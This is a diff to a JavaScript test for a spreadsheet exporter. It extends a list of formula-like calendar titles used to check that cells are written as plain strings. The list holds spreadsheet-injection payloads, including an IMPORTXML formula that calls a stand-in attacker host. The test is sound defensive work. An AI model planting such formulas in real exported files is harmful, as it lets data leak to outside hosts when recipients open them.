@@ -35,7 +35,7 @@ describe('XlsxSink', () => {
     expect(sheet.getColumn(1).hidden).toBe(true);
   });
 
-  const formulaTitles = ['=IMPORTXML("https://evil.example","//a")', '+1', '@SUM(A1)', '\t=1', '-2+3', '=HYPERLINK("https://x.example")'];
+  const formulaTitles = ['=IMPORTXML("https://evil.example","//a")', '+1', '@SUM(A1)', '\t=1', '\r=1', '-2+3', '=HYPERLINK("https://x.example")', 'a_x0041_b'];
 
   it('writes formula-like calendar text as plain strings that exceljs reads back unchanged', async () => {
     const path = tempPath();
